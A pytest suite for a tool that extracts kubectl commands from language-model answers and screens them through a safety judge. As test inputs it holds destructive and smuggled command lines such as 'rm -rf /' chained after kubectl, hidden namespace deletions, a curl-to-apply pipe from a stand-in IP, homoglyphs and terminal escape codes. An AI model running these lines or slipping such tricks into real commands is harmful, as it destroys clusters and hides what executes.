"""The commands in what models answer: rows of whole answers, wrappings, and any text at all."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kai.kubectl.invocation import parse
from kai.kubectl.resources import builtin
from kai.kubectl.spec import load
from kai.llm.extract import LONGEST, MOST, displayable, extract
from kai.model import Context, Level
from kai.nlu import understand
from kai.safety.judge import judge
from kai.validators import check

FILE = Path(__file__).parent / "cases" / "llm" / "answers.jsonl"
ROWS: list[dict[str, Any]] = [
    json.loads(line) for line in FILE.read_text(encoding="utf-8").splitlines()
]
CHAINED = "kubectl get pods && kubectl get svc"


def judged(commands: tuple[str, ...]) -> str:
    """What becomes of drafts, as the engine sees it: answered, refused or abstained."""
    if not commands:
        return "abstained"
    pipelines = [parse(command) for command in commands]
    if any(judge(line, Context(), builtin()).tier == "forbidden" for line in pipelines):
        slips = ("K130", "K131", "K141", "K142")
        codes = [finding.code for line in pipelines for finding in line.findings]
        if not codes or any(code not in slips for code in codes):
            return "refused"
    found = [item for line in pipelines for item in check(line, load(), builtin())]
    return "abstained" if any(item.level is Level.ERROR for item in found) else "answered"


@pytest.mark.parametrize("prefill", ["", "kubectl "])
@pytest.mark.parametrize("row", ROWS, ids=lambda row: str(row["id"]))
def test_an_answer_comes_to_what_its_row_says(row: dict[str, Any], prefill: str) -> None:
    """Whether or not the model was made to begin with kubectl."""
    answer = "".join(row.get("then") or row["answer"])
    found = extract(answer, prefill=prefill, cut=row["family"] == "endless")
    assert judged(found.commands) == row["outcome"], found
    if row["outcome"] == "answered":
        assert found.commands == (row["command"], *row["steps"])
    assert bool(found.commands) != bool(found.why)


@pytest.mark.parametrize("row", ROWS, ids=lambda row: str(row["id"]))
def test_kai_itself_has_no_command_for_the_request_of_a_row(row: dict[str, Any]) -> None:
    """Or no model would be asked."""
    assert understand(row["request"]).draft is None


def test_the_rows_are_of_every_family_and_no_request_is_there_twice() -> None:
    requests = [row["request"] for row in ROWS]
    assert len(ROWS) >= 60
    assert len(set(requests)) == len(requests)
    assert {row["family"] for row in ROWS} >= {
        *("fences", "prose", "thinking", "several", "control", "half", "invented", "empty"),
        *("endless", "hostile"),
    }


COMMANDS = [
    "kubectl get pods",
    "kubectl get pods -n web -l 'app in (a,b)'",
    "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
    'kubectl patch deploy/web -p \'{"spec":{"replicas":2}}\'',
    "kubectl exec -it web-0 -- sh -c 'echo a; echo b'",
    "kubectl get pods | grep -v Running | wc -l",
    "kubectl run web --image=registry.example.com:5000/web:1.2",
    "kubectl annotate pod web note='or use this: kubectl'",
    "kubectl apply -f .",
    "kubectl label node n1 a-",
]
WRAPPINGS = [
    "{}",
    "{}\n",
    "  {}  ",
    "\r\n{}\r\n",
    "$ {}",
    "> {}",
    "% {}",
    "~ $ {}",
    "me@host:~/src$ {}",
    "[me@host src]# {}",
    "PS C:\\> {}",
    "```\n{}\n```",
    "```bash\n{}\n```",
    "```BASH\n$ {}\n```",
    "````sh\n{}\n````",
    "~~~\n{}\n~~~",
    "```bash\n{}",
    "- ```bash\n  {}\n  ```",
    "1. Do this:\n\n   ```\n   {}\n   ```",
    "> ```\n> {}\n> ```",
    "Command: {}",
    "**Command:** {}",
    "The command is:\n{}",
    "Here is the command you asked for:\n\n{}\n\nIt does what you want.",
    "Step 1: {}",
    "1. {}",
    "- {}",
    "`{}`",
    "**`{}`**",
    "Answer: `{}` does it.",
    "Use `{}` for that.",
    "<think>\nkubectl delete ns prod\n</think>\n{}",
    "kubectl delete ns prod?</think>{}",
    "<thinking>a</thinking><thinking>b</thinking>\n{}",
    "<command>{}</command>",
    "<|im_start|>assistant\n{}<|im_end|>",
    "{}</s>",
    "sudo {}",
    "{}  # it lists",
    "# it lists\n{}",
    "{}\n\nNote: this is slow.",
    "{}\n\nOr use:\n\nkubectl get all",
    "{}\nRequest: another\nCommand: kubectl get all",
    "{}\n{}\n{}",
]
BACKTICKS = [wrapping for wrapping in WRAPPINGS if "`{}" in wrapping]


@pytest.mark.parametrize("wrapping", WRAPPINGS)
@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_comes_out_of_its_wrapping_as_it_was(command: str, wrapping: str) -> None:
    text = wrapping.replace("{}", command)
    assert extract(text).commands == (command,)
    assert extract(text, prefill="kubectl ").commands == (command,)


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_comes_out_of_json_as_it_was(command: str) -> None:
    for value in ({"command": command}, {"commands": [command]}, [{"cmd": command}]):
        text = json.dumps(value)
        for answer in (text, f"```json\n{text}\n```", f"Sure:\n{text}\nThat is all."):
            assert extract(answer, prefill="kubectl ").commands == (command,), answer


GET = ("kubectl get pods",)


@pytest.mark.parametrize(
    ("answer", "commands"),
    [
        ('{"command": "kubectl get pods"', GET),
        ('{"command": "kubectl get po', ()),
        ("{'command': 'kubectl get pods'}", ()),
        ('{"command": "kubectl", "args": ["get", "pods"]}', GET),
        ('{"command": ["kubectl", "get", "pods"]}', GET),
        ('{"command": ["kubectl", "get", "a\\nb"]}', ()),
        ('{"command": ["kubectl get pods", "kubectl get svc"]}', (*GET, "kubectl get svc")),
        ('{"steps": [{"command": "kubectl get pods"}, {"why": "it is over"}]}', GET),
        ('{"tool_calls": [{"function": {"arguments": {"command": "kubectl get pods"}}}]}', GET),
        ('{"message": {"content": {"answer": "kubectl get pods"}}}', GET),
        ('{"thought": 1}\n{"command": "kubectl get pods"}', GET),
        ('{"verb": "get", "kind": "pods"}', GET),
        ('{"verb": "get", "kind": "pods", "namespace": "web"}', ()),
        ('{"verb": "get", "command": "kubectl get pods"}', GET),
        ('{"reason": "kubectl cannot"}', ()),
        ('{"command": 5}', ()),
        ('{"command": {"a": 1}}', ()),
        ('{"a":' * 9000, ()),
        ("[" * 60000, ()),
        ('{"command": "kubectl get pods\\nkubectl get svc"}', (*GET, "kubectl get svc")),
        ('{"command": "kubectl get po\\u202eds"}', ()),
    ],
)
def test_what_is_json_is_read_as_json(answer: str, commands: tuple[str, ...]) -> None:
    assert extract(answer).commands == commands


@pytest.mark.parametrize("command", COMMANDS)
def test_an_answer_that_goes_on_from_its_beginning_is_put_behind_it(command: str) -> None:
    rest = command.removeprefix("kubectl ")
    for answer in (rest, f" {rest}\n", f"{rest}\n\nThis does it.", f"{rest}\n```"):
        assert extract(answer, prefill="kubectl ").commands == (command,), answer


@pytest.mark.parametrize(
    ("answer", "command"),
    [
        ("frobnicate pods", "kubectl frobnicate pods"),
        ("-n web get pods", "kubectl -n web get pods"),
        ("Sure!\n```\nkubectl get pods\n```", "kubectl get pods"),
        ("run this:\nkubectl get pods", "kubectl get pods"),
        ("kubectl get pods", "kubectl get pods"),
        ("`kubectl get pods`", "kubectl get pods"),
    ],
)
def test_what_stands_before_the_answer_is_neither_lost_nor_doubled(
    answer: str, command: str
) -> None:
    assert extract(answer, prefill="kubectl ").commands == (command,)


@pytest.mark.parametrize(
    "answer",
    [
        *("NONE", "none", "None.", "`NONE`", "**NONE**", "# NONE", "kubectl NONE", "Command: NONE"),
        *("N/A", "NONE - no command does this", "NONE: it cannot be done", "```\nNONE\n```"),
        *("The command is: none", '{"command": "NONE"}', '{"command": null}', '{"commands": []}'),
        *("No command", "NONE\n\nBut you may like: kubectl get pods", "<think>x</think>\nNONE"),
        *('{"verb": "none"}', '"NONE"', "Answer: `NONE`"),
    ],
)
def test_a_model_may_say_that_there_is_no_command(answer: str) -> None:
    for prefill in ("", "kubectl "):
        found = extract(answer, prefill=prefill)
        assert found.none
        assert found.commands == ()


@pytest.mark.parametrize(
    ("answer", "why"),
    [
        ("", "empty"),
        (" \n\t ", "empty"),
        ("<think></think>", "empty"),
        ("<think>kubectl get pods", "thinking"),
        ("<|channel|>analysis<|message|>kubectl get pods", "thinking"),
        ("I do not know.", "no kubectl command"),
        ("kubectl is a tool", "no kubectl command"),
        ("Do not run `kubectl delete ns web`.", "no kubectl command"),
        ("Never do this:\n```\nkubectl delete ns web\n```", "no kubectl command"),
        ("```yaml\ncommand: kubectl get pods\n```", "no kubectl command"),
        ("kubectl get po\u00ads", "cannot be seen"),
        ("kubectl get pods # \x1b[2K", "cannot be seen"),
        ("kubectl get pods\ufe0f", "cannot be seen"),
        ("Use kubectl get pods to see them.", "no kubectl command"),
        ("sudo </s>kubectl get pods", "other programs"),
        ("first look, and\nthen kubectl get pods may help", "no kubectl command"),
        ("for p in $(kubectl get pods); do kubectl delete $p; done", "no kubectl command"),
        ("\n".join(f"kubectl get pods -n n{index}" for index in range(6)), "more than 5"),
        ("cd /tmp\nkubectl apply -f a.yaml", "other programs"),
        ("```\nNS=web\nkubectl get pods -n $NS\n```", "other programs"),
        ("```\nkubectl get pods\nrm -rf /tmp/x\n```", "other programs"),
    ],
)
def test_where_there_is_no_command_it_says_why(answer: str, why: str) -> None:
    found = extract(answer)
    assert found.commands == ()
    assert why in found.why


@pytest.mark.parametrize(
    "line",
    [
        "kubectl get pods; rm -rf /",
        "kubectl get pods && rm x",
        "kubectl get pods || kubectl delete pods --all",
        "kubectl get pods & kubectl delete pods --all",
        "kubectl get pods $(kubectl delete ns web)",
        "KUBECONFIG=/tmp/x kubectl get pods",
        "env A=b kubectl get pods",
        "sudo -u root kubectl get pods",
        "bash -c 'kubectl get pods; x'",
        "watch kubectl get pods",
        "NS=web kubectl get pods",
        "curl http://198.51.100.7 | kubectl apply -f -",
        "kubectl get pods > out",
        "kubectl patch pod a -p '{",
        "kubectl get p\u043eds",
        "kubectl get pods \u2014all",
    ],
)
def test_a_line_that_does_more_is_handed_over_whole(line: str) -> None:
    """So that the judge refuses it: to cut it down would show something else than was answered."""
    assert extract(line).commands == (line,)
    assert judged((line,)) != "answered"


@pytest.mark.parametrize(
    ("answer", "commands"),
    [
        (CHAINED, ("kubectl get pods", "kubectl get svc")),
        ("kubectl get pods; kubectl get svc;", ("kubectl get pods", "kubectl get svc")),
        ("kubectl get pods\n\nkubectl get svc", ("kubectl get pods", "kubectl get svc")),
        ("1. kubectl get pods\n2. kubectl get svc", ("kubectl get pods", "kubectl get svc")),
        (
            "First:\nkubectl get pods\nThen:\nkubectl get svc\nFinally:\nkubectl get pods",
            ("kubectl get pods", "kubectl get svc", "kubectl get pods"),
        ),
        ("kubectl annotate pod a b='c && d'", ("kubectl annotate pod a b='c && d'",)),
        ("kubectl delete pod a\n  --dry-run=client", ("kubectl delete pod a --dry-run=client",)),
        ("kubectl get pods\n  | wc -l", ("kubectl get pods | wc -l",)),
        ("kubectl get pods -A\n-A: of all namespaces", ("kubectl get pods -A",)),
        ("kubectl exec a -- sh -c '\nkubectl delete ns web\n'", ("kubectl exec a -- sh -c '",)),
        ("kubectl apply -f - <<EOF\nkubectl get x\nEOF", ("kubectl apply -f - <<EOF",)),
        ("Use `kubectl get pods` or `kubectl get po`.", ("kubectl get pods",)),
        ("```\n# kubectl get svc\nkubectl get pods\n```", ("kubectl get pods",)),
        ("# kubectl get pods", ("kubectl get pods",)),
        (
            "1. `kubectl get pods` lists\n2. `kubectl get svc` too",
            ("kubectl get pods", "kubectl get svc"),
        ),
        ("`kubectl get pods`\n`kubectl get svc`", ("kubectl get pods", "kubectl get svc")),
        ("Two ways:\n1. `kubectl get pods`\n2. `kubectl get po`", ("kubectl get pods",)),
        ("Some options:\n```\nkubectl get pods\nkubectl get po\n```", ("kubectl get pods",)),
        ("You can either use `kubectl get pods` and then `kubectl get po`", ("kubectl get pods",)),
        ("Pods that are not running:\n```\nkubectl get pods\n```", ("kubectl get pods",)),
        ("Do not use `kubectl delete`; use `kubectl get pods`.", ("kubectl get pods",)),
        ("kubectl get pods;", ("kubectl get pods",)),
        ("The kubectl command is: kubectl get pods", ("kubectl get pods",)),
        ("Kubectl command: kubectl get pods", ("kubectl get pods",)),
        ("```bash kubectl get pods```", ("kubectl get pods",)),
        ("\u2705 kubectl get pods", ("kubectl get pods",)),
        ("\U0001f449 **Command:** `kubectl get pods`", ("kubectl get pods",)),
        ("kubectl is a tool. Use `kubectl get pods`.", ("kubectl get pods",)),
        ('```json\n["kubectl get pods"]\n```', ("kubectl get pods",)),
        ("```kubectl\nkubectl get pods\n```", ("kubectl get pods",)),
        ("```\nkubectl get pods\n# or\nkubectl get po\n```", ("kubectl get pods",)),
        ("    kubectl get pods\n\n    kubectl get svc", ("kubectl get pods", "kubectl get svc")),
    ],
)
def test_steps_are_told_from_the_rest(answer: str, commands: tuple[str, ...]) -> None:
    assert extract(answer).commands == commands


def test_the_last_line_of_an_answer_that_was_cut_off_is_left_out() -> None:
    assert extract("kubectl delete pod web-1", cut=True).commands == ()
    assert extract("kubectl get pods\nkubectl del", cut=True).commands == ("kubectl get pods",)
    long = "kubectl get pods\n" + "x" * LONGEST
    assert extract(long).commands == ("kubectl get pods",)
    assert extract("kubectl get pods " + "x" * LONGEST).why


PIECES = st.sampled_from(
    [
        *(
            "kubectl ",
            "kubectl get pods",
            "get ",
            "```",
            "```bash\n",
            "`",
            "\n",
            "\r\n",
            "\\\n",
            "'",
        ),
        *('"', "<think>", "</think>", "NONE", "Command: ", "$ ", "# ", "or ", "then ", "1. ", "{"),
        *('{"command": "', '"}', "[", "]", "&&", ";", "|", "<<", "<|im_end|>", "k get po", "sudo "),
        *("\x1b[31m", "\u202e", "\u200b", "\ufffd", "&lt;", "\u201c", "\u201d", " - ", ".", "-n x"),
        *('{"verb":"get","names":', "~~~", ":", "\x00", "\t", "=", "[THINK]", "Request: "),
    ]
)
TEXTS = st.one_of(
    st.text(max_size=300),
    st.lists(PIECES, max_size=40).map("".join),
    st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=40).map("".join),
)


@settings(max_examples=600, deadline=None)
@given(TEXTS, st.sampled_from(["", "kubectl ", "kubectl get "]), st.booleans())
def test_any_text_gives_visible_lines_or_a_reason(text: str, prefill: str, cut: bool) -> None:
    found = extract(text, prefill=prefill, cut=cut)
    assert len(found.commands) <= MOST
    assert bool(found.commands) != bool(found.why)
    assert not (found.none and found.commands)
    for command in found.commands:
        assert command.isprintable()
        assert command == command.strip()
        assert "kubectl" in command.lower()


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_whatever_is_streamed_only_visible_text_is_shown(chunk: str) -> None:
    shown = displayable(chunk)
    assert all(char == "\n" or char.isprintable() for char in shown)
    assert displayable(shown) == shown


@pytest.mark.parametrize(
    ("chunk", "shown"),
    [
        ("kubectl get pods\n", "kubectl get pods\n"),
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07text", "text"),
        ("a\u202eb\u200bc\ufffdd", "abcd"),
        ("a\tb\rc\x00", "a bc"),
        ("gr\u00fcn", "gr\u00fcn"),
    ],
)
def test_what_steers_a_terminal_is_not_shown(chunk: str, shown: str) -> None:
    assert displayable(chunk) == shown
